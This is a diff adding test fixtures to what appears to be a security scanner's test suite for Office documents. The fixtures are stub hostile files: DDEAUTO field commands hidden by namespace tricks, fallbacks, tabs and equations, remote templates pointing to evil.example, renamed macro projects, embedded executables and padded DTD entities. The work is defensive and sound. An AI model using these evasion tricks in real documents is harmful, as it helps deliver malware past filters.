@@ -150,6 +150,72 @@ export const hostileFiles: readonly HostileFile[] = [
   hanging('a wrapped program that nothing names', ['embedded-object'], 'image', 'word/thing.dat', () =>
     wrapped('evil.exe', 'MZ'),
   ),
+  ...['/word/_rels/document.xml.rels', 'word\\_rels\\document.xml.rels', './word/_rels/document.xml.rels'].map((name) =>
+    bomb(`one part in two spellings: ${name}`, ['corrupt'], () => ({ name, data: documentRelationships })),
+  ),
+  replaced('a template from the web behind another target', ['corrupt'], 'word/_rels/document.xml.rels', () =>
+    relation('attachedTemplate', 'https://evil.example/t.dotm').replace(
+      'Id="rIdX"',
+      'Id="rIdX" xmlns:z="urn:z" z:Target="a"',
+    ),
+  ),
+  replaced('a command in a field of two codes', ['corrupt'], 'word/document.xml', () =>
+    document(`<w:p><w:fldSimple xmlns:z="urn:z" z:instr="PAGE" w:instr="DDEAUTO x">${r('1')}</w:fldSimple></w:p>`),
+  ),
+  replaced('a command in a field of a disguised vocabulary', ['external-content'], 'word/document.xml', () =>
+    document(
+      `<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/m&#97;in"><x:fldSimple x:instr="DDEAUTO x"/></x:p>`,
+    ),
+  ),
+  ...Object.entries({
+    'in a fallback':
+      '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Fallback><w:instrText>DDEAUTO x</w:instrText></mc:Fallback></mc:AlternateContent>',
+    'parted by a tab': '<w:instrText>DDEAUTO</w:instrText><w:tab/><w:instrText>x</w:instrText>',
+    'as plain text': '<w:t>DDEAUTO x</w:t>',
+    'that another field shows':
+      '<w:fldChar w:fldCharType="begin"/><w:instrText>REF a</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>DDEAUTO</w:t><w:fldChar w:fldCharType="end"/><w:instrText> x</w:instrText>',
+    'that another field quotes':
+      '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> x</w:instrText>',
+  }).map(([where, code]) =>
+    replaced(`a command in a field ${where}`, ['external-content'], 'word/document.xml', () =>
+      document(p(r(`<w:fldChar w:fldCharType="begin"/>${code}<w:fldChar w:fldCharType="end"/>`))),
+    ),
+  ),
+  replaced('a command in a field of an equation', ['external-content'], 'word/document.xml', () =>
+    document(
+      p(
+        `<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">${r('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText><w:fldChar w:fldCharType="end"/>')}</m:oMath>`,
+      ),
+    ),
+  ),
+  ...Object.entries({
+    'behind blanks': () => ' '.repeat(40),
+    'behind a long comment': () => `<!--${Array.from({ length: 40_000 }, (_, i) => (i * 7919) % 104_729).join(' ')}-->`,
+  }).map(([where, before]) =>
+    bomb(`an entity in a part that is only copied, ${where}`, ['dtd'], () => ({
+      name: 'customXml/item7.xml',
+      data: `${before()}<!DOCTYPE r [<!ENTITY a "aaaa">]><r>&a;</r>`,
+    })),
+  ),
+  archive('macros under another name', 'macros', () => [
+    declaring('/xl/a.bin', 'application/vnd.ms-office.vbaProject'),
+    { name: 'xl/a.bin', data: 'x' },
+  ]),
+  archive('macros that a relationship declares', 'macros', () => [
+    { name: 'xl/_rels/workbook.xml.rels', data: relation('vbaProject', 'a.bin', '') },
+  ]),
+  archive('sheets of macros', 'macros', () => [declaring('/xl/a.xml', 'application/vnd.ms-excel.macrosheet+xml')]),
+  archive('a workbook with macros', 'macros', () => [
+    { name: 'a.xlsx', data: zipFiles([{ name: 'xl/vbaProject.bin', data: 'x' }]) },
+  ]),
+  archive('a program', 'embedded-object', () => [{ name: 'a.exe', data: 'MZ' }]),
+  archive('a template from the web', 'external-content', () => [
+    { name: 'word/_rels/document.xml.rels', data: relation('attachedTemplate', 'https://evil.example/t.dotm') },
+  ]),
+  bomb('an archive that cannot be read', ['embedded-object'], () => ({
+    name: 'word/embeddings/sheet.xlsx',
+    data: Buffer.concat([zipFiles([{ name: 'a.xml', data: '<a/>' }]), Buffer.from('a tail')]),
+  })),
   hanging('macros of a document under another name', ['macros'], 'package', 'word/media/thing.dat', () =>
     zipFiles([{ name: 'word/VBAPROJECT.BIN', data: 'x' }]),
   ),
@@ -230,6 +296,11 @@ const control =
 const document = (body: string) =>
   `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`
 
+const declaring = (part: string, type: string): ZipFile => ({
+  name: '[Content_Types].xml',
+  data: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="${part}" ContentType="${type}"/></Types>`,
+})
+
 const relation = (kind: string, target: string, mode = ' TargetMode="External"') =>
   documentRelationships.replace(
     '</Relationships>',
@@ -259,6 +330,14 @@ function bomb(
       return zipFiles([...generateFiles({ pages: 1 }), ...added])
     },
   }
+}
+
+/** A workbook with these files in it. */
+function archive(what: string, verdict: Verdict, files: () => ZipFile[]): HostileFile {
+  return bomb(`an archive with ${what}`, [verdict], () => ({
+    name: 'word/embeddings/sheet.xlsx',
+    data: zipFiles(files()),
+  }))
 }
 
 function replaced(
